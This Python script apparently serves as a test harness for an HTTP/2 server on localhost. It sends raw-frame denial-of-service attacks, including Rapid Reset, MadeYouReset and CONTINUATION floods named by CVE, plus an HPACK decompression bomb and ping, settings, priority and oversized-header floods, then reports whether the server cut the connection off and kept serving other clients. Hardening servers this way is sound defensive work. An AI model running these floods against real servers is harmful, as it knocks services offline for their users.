"""Clients of HTTP/2 that mean harm, by raw frames: `attacks.py PORT NAME`. Says in one line of JSON what became of the connection:
frames that came back, by name, the codes of RST_STREAM and GOAWAY, and whether it was closed within the time."""

import json
import socket
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "a.test"), (":path", "/")]
POST = [(":method", "POST"), *GET[1:]]
# Where the server does not answer.
HOLD = [(":method", "POST"), *GET[1:3], (":path", "/hold")]


class Client:
    def __init__(self, port, settings=None, small=False):
        self.socket = socket.socket()
        if small:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect(("127.0.0.1", port))
        self.socket.settimeout(5)
        self.encoder = Encoder()
        self.buffer = b""
        self.counts = {}
        self.resets = []
        self.goaways = []
        self.statuses = {}
        self.closed = False
        self.sent = 0
        self.write(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def write(self, data):
        try:
            self.socket.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream, fields=GET, end=True, huffman=True):
        frame = HeadersFrame(stream, self.encoder.encode(fields, huffman=huffman))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def read(self, seconds, until=lambda client: False):
        """Reads frames for so long, or until it is closed or `until` holds."""
        end = time.monotonic() + seconds
        while not self.closed and not until(self) and time.monotonic() < end:
            self.socket.settimeout(max(0.01, end - time.monotonic()))
            try:
                data = self.socket.recv(65536)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if data == b"":
                self.closed = True
            self.buffer += data
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            name = type(frame).__name__.removesuffix("Frame")
            self.counts[name] = self.counts.get(name, 0) + 1
            if isinstance(frame, RstStreamFrame):
                self.resets.append(frame.error_code)
            if isinstance(frame, GoAwayFrame):
                self.goaways.append(frame.error_code)

    def good(self):
        """Whether another client is served meanwhile."""
        other = Client(PORT)
        other.write(other.headers(1))
        other.read(5, lambda client: client.counts.get("Headers", 0) > 0)
        return other.counts.get("Headers", 0) > 0


def flood(client, bursts, rest=3):
    """Writes one burst after another, hearing what comes back, until it is cut off; then waits to be."""
    for burst in bursts:
        if not client.write(burst):
            return
        client.read(0.001)
    client.read(rest)


def rapid_reset(client):
    # CVE-2023-44487
    flood(
        client,
        (
            b"".join(
                client.headers(stream) + RstStreamFrame(stream, error_code=8).serialize()
                for stream in range(first, first + 200, 2)
            )
            for first in range(1, 40_000, 200)
        ),
    )


def made_you_reset(client):
    # CVE-2025-8671: the server is made to reset, by a window update of nothing, after it has begun to work.
    flood(
        client,
        (
            b"".join(
                client.headers(stream, HOLD, end=False)
                + struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">II", stream, 0)
                for stream in range(first, first + 100, 2)
            )
            for first in range(1, 40_000, 100)
        ),
    )


def made_you_reset_by_data(client):
    # As above, by bytes behind the end of a request.
    flood(
        client,
        (
            b"".join(
                client.headers(stream) + DataFrame(stream, b"x").serialize() for stream in range(first, first + 100, 2)
            )
            for first in range(1, 40_000, 100)
        ),
    )


def malformed_flood(client):
    for stream in range(1, 20_000, 2):
        if not client.write(client.headers(stream, [*GET, ("connection", "close")])):
            return
        if stream % 200 == 1:
            client.read(0.001)
    client.read(3)


def continuation_flood(client):
    # CVE-2024-27316
    block = client.encoder.encode(GET)
    client.write(HeadersFrame(1, block).serialize())
    piece = ContinuationFrame(1, client.encoder.encode([("x", "y" * 100)])).serialize()
    for _ in range(100_000):
        if not client.write(piece):
            break
    client.read(3)


def empty_continuations(client):
    client.write(HeadersFrame(1, client.encoder.encode(GET)).serialize())
    for _ in range(100_000):
        if not client.write(ContinuationFrame(1, b"").serialize() * 10):
            break
    client.read(3)


def header_bytes(client):
    fields = [*GET, *((f"x-{i}", "y" * 4000) for i in range(40))]
    block = client.encoder.encode(fields, huffman=False)
    client.write(HeadersFrame(1, block[:16000]).serialize())
    for at in range(16000, len(block), 16000):
        frame = ContinuationFrame(1, block[at : at + 16000])
        if at + 16000 >= len(block):
            frame.flags.add("END_HEADERS")
        client.write(frame.serialize())
    client.read(2, lambda client: client.resets or client.counts.get("Headers"))


def header_count(client):
    client.write(client.headers(1, [*GET, *((f"x-{i}", "") for i in range(2000))]))
    client.read(2, lambda client: client.resets or client.counts.get("Headers"))


def bomb(client):
    # One large field in the dynamic table, named again by one byte each: a block that grows a thousandfold.
    client.write(client.headers(1, [*GET, ("x-bomb", "y" * 3900)]))
    frame = HeadersFrame(3, client.encoder.encode(GET) + b"\xbe" * 10_000)
    frame.flags |= {"END_HEADERS", "END_STREAM"}
    client.write(frame.serialize())
    client.read(2, lambda client: client.resets)


def cookie_crumbs(client):
    client.write(client.headers(1, [*GET, *(("cookie", f"a{i}=b") for i in range(1500))]))
    client.read(2, lambda client: client.resets or client.counts.get("Headers"))


def ping_flood(client):
    client.write(client.headers(1, HOLD, end=False))
    flood(client, [PingFrame(0, opaque_data=b"01234567").serialize() * 500] * 400)


def unread_pings(client):
    pings = PingFrame(0, opaque_data=b"01234567").serialize() * 500
    for _ in range(2000):
        if not client.write(pings):
            return
    client.read(3)


def unread_replies(client):
    # Asks and takes nothing of what it is answered, on streams that end with their heads.
    for first in range(1, 60_000, 200):
        asks = b"".join(client.headers(stream) for stream in range(first, first + 200, 2))
        if not client.write(asks):
            return
    client.read(3)


def settings_flood(client):
    client.write(client.headers(1, HOLD, end=False))
    flood(client, [SettingsFrame(settings={4: 65535}).serialize() * 500] * 400)


def empty_data_flood(client):
    client.write(client.headers(1, HOLD, end=False))
    flood(client, [DataFrame(1, b"").serialize() * 100] * 1000)


def priority_flood(client):
    flood(client, [PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 500] * 400, rest=1)


def window_stall(client):
    # Asks for much and grants nothing, on as many streams as it may.
    client.write(b"".join(client.headers(stream) for stream in range(1, 200, 2)))
    client.read(6, lambda client: len(client.resets) >= 100)


def stalled_body(client):
    client.write(client.headers(1, HOLD, end=False))
    client.read(6, lambda client: client.resets or client.counts.get("Headers"))


def silent_preface(client):
    client.read(6)


def half_headers(client):
    client.write(HeadersFrame(1, client.encoder.encode(GET)).serialize())
    client.read(6)


def too_many_streams(client):
    client.write(b"".join(client.headers(stream, HOLD, end=False) for stream in range(1, 3000, 2)))
    client.read(2)


def window_overflow(client):
    client.write(client.headers(1, HOLD, end=False))
    client.write(WindowUpdateFrame(1, window_increment=2**31 - 1).serialize())
    client.read(2, lambda client: client.resets)


def bad_hpack(client):
    frame = HeadersFrame(1, b"\xff\xff\xff\xff\xff\xff\xff\xff")
    frame.flags |= {"END_HEADERS", "END_STREAM"}
    client.write(frame.serialize())
    client.read(2)


def huge_frame(client):
    client.write(b"\xff\xff\xff" + bytes([0, 0]) + struct.pack(">I", 1))
    client.read(2)


PORT = int(sys.argv[1])
SETTINGS = {"window_stall": {4: 0}}
if __name__ == "__main__":
    attack = sys.argv[2]
    attacker = Client(PORT, SETTINGS.get(attack), small=attack == "unread_replies")
    attacker.read(0.05)
    globals()[attack](attacker)
    print(
        json.dumps(
            {
                "closed": attacker.closed,
                "counts": attacker.counts,
                "resets": sorted(set(attacker.resets)),
                "resetCount": len(attacker.resets),
                "goaways": attacker.goaways,
                "sent": attacker.sent,
                "good": attacker.good(),
            }
        )
    )
